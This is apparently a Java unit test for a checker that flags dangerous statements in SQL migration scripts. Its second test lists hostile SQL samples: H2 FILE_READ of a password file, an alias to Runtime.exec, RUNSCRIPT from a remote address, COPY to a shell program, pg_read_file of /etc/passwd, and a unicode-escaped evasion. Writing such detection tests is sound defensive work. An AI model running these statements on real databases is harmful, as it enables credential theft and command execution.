package org.shuyuan.persistence.scripts;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

class TablesTest {

    @Test
    void whatMakesChangesAndFillsTablesIsNothingStrange() {
        assertThat(Tables.strange("-- call file_write('x', 'y')\ncreate table club_a (id bigint primary key, engine varchar(20), copy varchar(20));\n"
                + "create unique index club_i on club_a (id); create view club_v as select id from club_a; alter table club_a add column more integer;"
                + "insert into club_a (id, copy) values (1, 'file_write(''x'')'); update club_a set more = 1; delete from club_a; comment on table club_a is 'x';")).isEmpty();
    }

    @Test
    void whatReachesFilesProgramsOrClassesIs() {
        for (String strange : List.of("call file_write('x', 'etc/a.cfg')", "create alias run for \"java.lang.Runtime.exec\"", "create trigger a before insert on b call \"c\"",
                "insert into club_a (x) values (FILE_READ('keys/database.password'))", "insert into club_a (x) select \"FILE_READ\" ('x')", "create table club_a (id int) engine \"org.example.E\"",
                "runscript from 'http://192.0.2.1/x'", "script to 'x'", "shutdown", "create user a password 'b' admin", "copy club_a to program 'sh'", "select pg_read_file('x')",
                "update club_a set x = pg_read_file('/etc/passwd')", "create linked table club_a ('', 'jdbc:h2:x', '', '', 'y')", "set trace_level_file 3", "select csvwrite('x', 'select 1')",
                "insert into club_a select U&\"\\0046ILE_WRITE\"('x', 'y')", "/* */ call 1", "do $$ begin perform 1; end $$")) {
            assertThat(Tables.strange("create table club_a (id bigint);\n" + strange + ";")).as(strange).isPresent();
        }
    }

    @Test
    void theScriptsOfTheHouseAreNothingStrange() throws IOException {
        try (Stream<Path> all = Files.walk(Path.of(".."), 12)) {
            List<Path> scripts = all.filter(file -> file.toString().matches(".*/src/main/resources/db/migration[^/]*/V\\d+__\\w+\\.sql")).toList();
            assertThat(scripts).hasSizeGreaterThan(50);
            for (Path script : scripts) {
                assertThat(Tables.strange(Files.readString(script))).as(script.toString()).isEmpty();
            }
        }
    }
}
